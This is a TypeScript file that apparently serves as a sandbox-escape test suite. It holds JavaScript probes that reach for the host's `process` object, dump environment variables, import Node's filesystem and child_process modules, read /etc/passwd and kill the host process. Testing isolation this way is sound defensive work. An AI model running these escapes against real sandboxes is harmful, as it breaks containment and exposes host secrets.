import { anyEnd } from '../attack.ts'
import type { Attack } from '../attack.ts'

const { raw } = String
const javascript = { language: 'javascript', expect: ['ok', 'error', 'timeout'] } as const

/** `claim(f)`: what `f` found, if it belongs to the host; `realm(f)`: the same for a constructor of functions. */
const claims = raw`
const claim = (find) => {
  try {
    const it = find()
    const found = it?.process ?? it
    if (found?.versions?.node && found.env) console.log('{{won}} process ' + found.pid + ' ' + found.env.{{canaryName}})
    else if (typeof it === 'function' && /^(require|Reference|Isolate|ExternalCopy)$/.test(it.name)) console.log('{{won}} ' + it.name)
  } catch {}
}
const realm = (maker) => {
  claim(() => maker()('return process')())
  claim(() => maker()('return this.process')())
  claim(() => maker()('return this')().process)
}
`
const program = (code: string): string => claims + code

export const escapeFromJavascript: readonly Attack[] = [
  {
    ...javascript,
    id: 'globals',
    does: 'looks for what a host may have left in plain sight',
    code: program(raw`
for (const name of ['process', 'require', 'module', 'global', 'Buffer', 'Deno', 'Bun', 'ivm', 'isolate', 'host', '$0', '_ivm', 'std', 'os'])
  claim(() => globalThis[name])
claim(() => require('node:process')); claim(() => module.constructor._load('process')); claim(() => process.binding && process)
if (globalThis.os?.exec || globalThis.std?.loadFile) console.log('{{won}} os')`),
  },
  {
    ...javascript,
    id: 'environment',
    does: 'reads the environment',
    code: raw`
let found = ''
try { found += JSON.stringify(process.env) } catch {}
try { found += JSON.stringify(globalThis.std.getenviron()) } catch {}
console.log(found)`,
  },
  {
    ...javascript,
    id: 'constructors',
    does: 'makes code with the constructors of all kinds of functions',
    code: program(raw`
for (const f of [function () {}, () => {}, class {}, async function () {}, async () => {}, function* () {}, async function* () {}, Object, Reflect.get])
  realm(() => f.constructor)
realm(() => Object.getPrototypeOf(async function* () {}).constructor)
claim(() => (async () => {}).constructor('return process')())
claim(() => (function* () {}).constructor('yield process')().next().value)
realm(() => this.constructor.constructor)
claim(() => eval('process')); claim(() => (0, eval)('process')); realm(() => Function)
claim(() => new (Object.getPrototypeOf(function () {}).constructor)('return process')())`),
  },
  {
    ...javascript,
    id: 'host-functions',
    does: 'follows the functions the host gave to their prototypes',
    code: program(raw`
const given = [console.log, console, setTimeout, clearTimeout, queueMicrotask, globalThis.display, globalThis.structuredClone, globalThis.performance, globalThis.files, globalThis.tools, globalThis.TextEncoder]
for (const f of given) {
  for (let p = f; p; p = Object.getPrototypeOf(p)) {
    realm(() => p.constructor); realm(() => p.constructor.constructor)
    for (const key of Reflect.ownKeys(p)) { realm(() => p[key].constructor) ; claim(() => p[key]) }
  }
}`),
  },
  {
    ...javascript,
    id: 'host-returns',
    does: 'follows what the host returns to its prototypes',
    code: program(raw`
const calls = [() => setTimeout(() => {}, 1), () => console.log(''), () => console.time('a'), () => performance.now(), () => queueMicrotask(() => {}), () => setInterval(() => {}, 1e5), () => new TextEncoder().encode('a'), () => structuredClone({})]
for (const call of calls) { let r; try { r = call() } catch (e) { r = e } if (r != null) { realm(() => r.constructor.constructor); clearInterval?.(r) } }`),
  },
  {
    ...javascript,
    id: 'host-errors',
    does: 'makes the host throw, and follows the error to its realm',
    code: program(raw`
const bad = [Symbol('x'), Object.create(null), { toString() { throw 1 } }, 1n, new Proxy({}, {}), undefined]
for (const f of [console.log, setTimeout, clearTimeout, globalThis.display, globalThis.structuredClone, queueMicrotask]) for (const a of bad) {
  try { f(a, a) } catch (e) { realm(() => e.constructor.constructor); realm(() => Object.getPrototypeOf(Object.getPrototypeOf(e)).constructor.constructor) }
  try { Reflect.construct(f, [a]) } catch (e) { realm(() => e.constructor.constructor) }
}`),
  },
  {
    ...javascript,
    id: 'host-overflow',
    does: 'makes the stack overflow inside a function of the host, and follows that error',
    expect: anyEnd,
    code: program(raw`
const errors = []
let near = 0
const down = (n) => { try { down(n + 1) } catch (e) { if (near++ < 60) try { console.time('x'); setTimeout(() => {}, 1) } catch (inner) { errors.push(inner) } throw e } }
for (let i = 0; i < 5; i++) { near = 0; try { down(0) } catch (e) { errors.push(e) } }
for (const e of errors.slice(0, 50)) realm(() => e.constructor.constructor)`),
  },
  {
    ...javascript,
    id: 'prepare-stack-trace',
    does: 'takes frames of the host from the hook for stack traces',
    code: program(raw`
const seen = []
Error.prepareStackTrace = (error, frames) => { seen.push(...frames); return '' }
const look = () => { new Error('x').stack; try { null.x } catch (e) { e.stack } try { console.log(Symbol.iterator, { get a() { new Error().stack } }) } catch (e) { e.stack } }
look(); await 0; look(); setTimeout(look, 0); await new Promise((r) => setTimeout(r, 5))
for (const f of seen) { claim(() => f.getThis()); realm(() => f.getFunction().constructor); realm(() => f.getThis().constructor.constructor); realm(() => f.constructor.constructor)
  const file = String(f.getFileName?.() ?? f.getScriptNameOrSourceURL?.()); if (/node:internal|node_modules|packages.tools/.test(file)) console.log('{{won}} ' + file) }`),
  },
  {
    ...javascript,
    id: 'prepare-stack-trace-late',
    does: 'sets that hook for the error that ends the run',
    code: program(raw`
Error.prepareStackTrace = (error, frames) => { for (const f of frames) { realm(() => f.getFunction().constructor); claim(() => f.getThis()) } return { toString() { realm(() => arguments.callee.caller.constructor); return 'x' } } }
const e = new Error('x'); Object.defineProperty(e, 'message', { get() { e.stack; return 'm' } }); throw e`),
  },
  {
    ...javascript,
    id: 'caller',
    does: 'walks up to its caller from sloppy functions',
    code: program(raw`
function up() { try { let f = up.caller; for (let i = 0; f && i < 20; i++) { realm(() => f.constructor); for (const a of f.arguments ?? []) { claim(() => a); realm(() => a.constructor.constructor) } f = f.caller } } catch {} }
up(); setTimeout(up, 0); Promise.resolve().then(up); [1].map(up)
const o = { toString: up, valueOf: up, get x() { up(); return 1 } }; console.log(o); String(o); await { then(r) { up(); r() } }; o`),
  },
  {
    ...javascript,
    id: 'inspect-hook',
    does: 'is shown by a hook that Node gives its own functions',
    code: program(raw`
const hook = { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
  realm(() => inspect.constructor); realm(() => options.constructor.constructor); realm(() => options.stylize.constructor); return 'x' } }
console.log(hook); console.error('%o %O %s', hook, hook, hook)
for (const name of ['nodejs.util.promisify.custom', 'nodejs.rejection', 'nodejs.stream.destroy']) hook[Symbol.for(name)] = hook[Symbol.for('nodejs.util.inspect.custom')]
hook`),
  },
  {
    ...javascript,
    id: 'inspect-proxy',
    does: 'has a proxy take the receivers of whatever the host calls',
    code: program(raw`
let isBusy = false
const trap = (kind) => (...args) => {
  if (!isBusy) { isBusy = true; for (const a of args) { realm(() => a.constructor.constructor); if (Array.isArray(a)) for (const b of a) realm(() => b.constructor.constructor) } isBusy = false }
  return Reflect[kind](...args)
}
const handler = Object.fromEntries(['get', 'set', 'has', 'apply', 'construct', 'ownKeys', 'getPrototypeOf', 'getOwnPropertyDescriptor', 'defineProperty'].map((k) => [k, trap(k)]))
const p = new Proxy(function () {}, handler); const q = new Proxy(new Error('x'), handler)
console.log(p, q, [p]); setTimeout(p, 0, q); await new Proxy(Promise.resolve(1), handler).then?.call(Promise.resolve(), p); try { throw q } catch {}
q`),
  },
  {
    ...javascript,
    id: 'proxy-traps-proxy',
    does: 'gives the host a proxy whose traps are a proxy',
    code: program(raw`
let isBusy = false
const traps = new Proxy({}, { get: (_, name) => (...args) => {
  if (!isBusy) { isBusy = true; for (const a of args) realm(() => a.constructor.constructor); isBusy = false }
  return Reflect[name]?.(...args)
} })
const p = new Proxy({}, traps); for (const f of [console.log, globalThis.display, globalThis.structuredClone]) try { f(p) } catch (e) { realm(() => e.constructor.constructor) }
p`),
  },
  {
    ...javascript,
    id: 'promise-then',
    does: 'replaces then, and takes what the host awaits',
    code: program(raw`
const original = Promise.prototype.then
Promise.prototype.then = function (...handlers) { for (const h of handlers) { realm(() => h.constructor); realm(() => this.constructor.constructor) } return Reflect.apply(original, this, handlers) }
class Mine extends Promise { static get [Symbol.species]() { return function (executor) { executor((v) => realm(() => v.constructor.constructor), (e) => realm(() => e.constructor.constructor)) } } }
Mine.resolve(1).then(() => {}); await Mine.resolve(2)
if (globalThis.tools) { const p = tools.echo?.({}); if (p) { realm(() => p.constructor.constructor); p.constructor = Mine; await p.then((v) => realm(() => v.constructor.constructor)) } }`),
  },
  {
    ...javascript,
    id: 'async-generator',
    does: 'has an async generator await a thenable that takes its resolvers',
    code: program(raw`
async function* inner() { try { yield 1 } finally { yield { then(resolve, reject) { realm(() => resolve.constructor); realm(() => reject.constructor); resolve(1) } } } }
async function* outer() { yield* inner() }
const g = outer(); await g.next(); await g.return({ then(r, j) { realm(() => r.constructor); j(Object.assign(new Error('x'), { constructor: null })) } }).catch((e) => realm(() => Object.getPrototypeOf(e).constructor.constructor))
await g.throw(1).catch(() => {})`),
  },
  {
    ...javascript,
    id: 'import',
    does: 'imports modules of Node, in every spelling',
    code: program(raw`
for (const name of ['node:fs', 'fs', 'node:process', 'process', 'node:child_process', 'node:module', 'isolated-vm', './main.ts', '/proc/self/environ', 'file:///etc/passwd', 'data:text/javascript,export default process'])
  try { const m = await import(name); console.log('{{won}} import ' + name); claim(() => m.default) } catch (e) { realm(() => e.constructor.constructor) }`),
  },
  {
    ...javascript,
    id: 'import-in-function',
    does: 'imports from code made of strings, where a host may have forgotten the hook',
    code: program(raw`
for (const make of [() => eval, () => Function, () => (async () => {}).constructor])
  try { const m = await make()('return import("node:process")')?.(); if (m) { console.log('{{won}} import'); claim(() => m.default) } } catch {}
try { setTimeout('import("node:process").then((m) => console.log("{{won}}", m.default.pid))', 1); await new Promise((r) => setTimeout(r, 20)) } catch {}`),
  },
  {
    ...javascript,
    id: 'webassembly',
    does: 'gets a function of the host out of WebAssembly',
    code: program(raw`
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 97, 1, 98, 0, 0, 7, 5, 1, 1, 99, 0, 0])
if (typeof WebAssembly === 'object') {
  const instance = new WebAssembly.Instance(new WebAssembly.Module(bytes), { a: { b() { throw new Error('x') } } })
  realm(() => instance.exports.c.constructor); try { instance.exports.c() } catch (e) { realm(() => e.constructor.constructor) }
  for (const make of [() => WebAssembly.compileStreaming({}), () => WebAssembly.instantiate(bytes, {}), () => WebAssembly.promising(instance.exports.c)()])
    try { await Promise.race([make(), new Promise((r) => setTimeout(r, 20))]) } catch (e) { realm(() => e.constructor.constructor) }
}`),
  },
  {
    ...javascript,
    id: 'walk',
    does: 'walks all that can be reached and calls what looks like a way out',
    code: program(raw`
const seen = new Set(); const queue = [globalThis]
while (queue.length > 0) {
  const value = queue.pop()
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue
  seen.add(value)
  claim(() => value)
  for (const name of ['derefInto', 'copyInto', 'transferIn', 'applySync', 'applyIgnored', 'getSync', 'createContextSync', 'compileScriptSync', 'binding', '_linkedBinding', 'getBuiltinModule', 'mainModule', 'dlopen'])
    try { if (typeof value[name] === 'function') console.log('{{won}} ' + name) } catch {}
  for (const key of Reflect.ownKeys(value)) { let d; try { d = Reflect.getOwnPropertyDescriptor(value, key) } catch { continue } if (d) queue.push(d.value, d.get, d.set) }
  try { queue.push(Object.getPrototypeOf(value)) } catch {}
}`),
  },
  {
    ...javascript,
    id: 'with-unscopables',
    does: 'catches the names the host looks up through the global object',
    code: program(raw`
Object.setPrototypeOf(Object.prototype, null)
try { Object.setPrototypeOf(globalThis, new Proxy({}, { has: (t, k) => { if (typeof k === 'string' && /ivm|process|__/.test(k)) console.log('looked for ' + k); return false }, get: (t, k, r) => { realm(() => r.constructor.constructor) } })) } catch {}
claim(() => process)`),
  },
  {
    ...javascript,
    id: 'accessors',
    does: 'puts accessors where the host sets its own properties',
    code: program(raw`
for (const key of ['result', 'error', 'type', 'id', 'value', 'then', 'status', 'stack', 'message', 'name', 'copy', 'reference', 'resolve', 'reject', 'toJSON', '0', '1', 'line'])
  Object.defineProperty(Object.prototype, key, { __proto__: null, configurable: true, set(v) { realm(() => v.constructor.constructor); realm(() => this.constructor.constructor); Object.defineProperty(this, key, { __proto__: null, value: v, writable: true, configurable: true, enumerable: true }) }, get() { realm(() => this?.constructor?.constructor); return undefined } })
console.log({}); await 0; ({ a: 1 })`),
  },
  {
    ...javascript,
    id: 'close-the-wrapper',
    does: 'closes the function that its code is pasted into, and goes on outside of it',
    code: raw`
await 0
})(), typeof process === 'object' && console.log('{{won}} process'), typeof require === 'function' && console.log('{{won}} require'), (async () => {
1`,
    expect: ['ok', 'error'],
  },
  {
    ...javascript,
    id: 'source-name',
    does: 'names itself as a file of the host, for stacks and breakpoints',
    code: raw`
const e = new Error('x'); console.log(e.stack)
//# sourceURL=node:internal/process
//# sourceMappingURL=http://127.0.0.1:{{port}}/map`,
  },
  {
    ...javascript,
    id: 'natives',
    does: 'calls natives of V8, debuggers and shells',
    code: program(raw`
for (const source of ['%SystemBreak()', '%GetOptimizationStatus(0)', 'd8', 'debugger', 'version()', 'quit()', 'read("/etc/passwd")', 'load("/etc/passwd")', 'print(1)'])
  for (const make of [() => eval, () => Function]) try { const r = make()(source); if (String(r?.() ?? r).startsWith('root:')) console.log('{{won}} ' + source) } catch {}
debugger; claim(() => globalThis.inspector)`),
  },
  {
    ...javascript,
    id: 'typescript-decorators',
    language: 'typescript',
    does: 'hides its way out in syntax that is rewritten before it runs',
    code: program(raw`
enum Sly { a = ((): number => { claim(() => (globalThis as { process?: unknown }).process); return 1 })() }
namespace Deep { export const found = typeof (globalThis as { require?: unknown }).require }
class Way { constructor(private readonly p = claim(() => (globalThis as { process?: unknown }).process)) {} }
new Way(); console.log(Sly.a, Deep.found)`)
      .replace('(find) =>', '(find: () => any) =>')
      .replace('(maker) =>', '(maker: () => any) =>'),
  },
  {
    ...javascript,
    id: 'shadow',
    does: 'makes another realm, and looks around in it',
    code: program(raw`
for (const make of [() => new ShadowRealm().evaluate('typeof process'), () => $262.createRealm().global, () => new Worker('data:,1'), () => new SharedWorker('data:,1'), () => Realm.createAllowCrossRealmAccess(), () => document.createElement('iframe')])
  try { const r = make(); claim(() => r); if (r === 'object') console.log('{{won}} realm') } catch {}`),
  },
  {
    ...javascript,
    id: 'kill',
    does: 'ends the process of the host by its number',
    code: program(raw`
const reach = (p) => { try { p.kill({{hostPid}}, 9) } catch {} try { p.exit(0) } catch {} try { p.abort() } catch {} }
try { reach(process) } catch {}
try { reach(this.constructor.constructor('return process')()) } catch {}
try { reach(console.log.constructor('return process')()) } catch {}
try { reach((await import('node:process')).default) } catch {}`),
    expect: anyEnd,
  },
]
